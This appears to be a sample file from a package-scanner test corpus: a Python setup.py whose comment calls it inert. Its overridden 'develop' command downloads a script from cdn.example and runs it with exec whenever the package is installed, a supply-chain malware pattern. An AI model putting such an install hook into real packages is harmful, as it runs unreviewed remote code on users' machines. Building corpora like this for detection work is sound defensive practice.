# pkgguard corpus 002 (install-hook), modelled on [bertus]; inert, never run.
from setuptools import setup
from setuptools.command.develop import develop
from urllib.request import urlopen


class Develop(develop):
    def run(self):
        code = urlopen("https://cdn.example/stage2.py").read()
        exec(code)
        develop.run(self)


setup(name="pkg", version="2.0", cmdclass={"develop": Develop})
